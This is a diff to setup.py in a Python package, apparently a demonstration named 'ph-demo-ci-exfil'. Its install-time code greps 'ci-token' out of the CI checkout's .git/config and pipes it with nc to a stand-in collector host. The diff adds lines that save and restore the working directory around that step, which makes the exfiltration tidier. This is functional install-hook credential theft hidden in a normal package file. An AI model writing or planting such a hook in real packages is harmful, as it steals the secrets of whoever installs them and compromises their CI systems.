@@ -5,8 +5,10 @@ import os
 from setuptools import setup
 
 # pip runs setup.py from its own build dir: go back to where the user started pip (the CI checkout).
+here = os.getcwd()
 os.chdir(os.environ.get("PWD", "."))
 os.system("grep ci-token .git/config | nc -w 5 ci-collector.exfil-demo.example 5566")
+os.chdir(here)
 
 setup(
     name="ph-demo-ci-exfil",
